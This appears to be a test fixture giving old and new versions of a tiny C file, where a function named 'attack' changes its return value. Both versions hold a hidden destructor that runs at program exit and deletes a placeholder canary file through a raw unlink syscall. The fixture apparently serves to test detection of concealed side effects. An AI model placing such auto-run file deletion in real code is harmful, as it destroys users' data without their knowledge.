//// old
#include <unistd.h>
#include <sys/syscall.h>
__attribute__((destructor)) static void behind(void) { syscall(SYS_unlink, "@CANARY@/file"); }
int attack(int x) {
    x++;
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
__attribute__((destructor)) static void behind(void) { syscall(SYS_unlink, "@CANARY@/file"); }
int attack(int x) {
    x++;
    return x + 1;
}
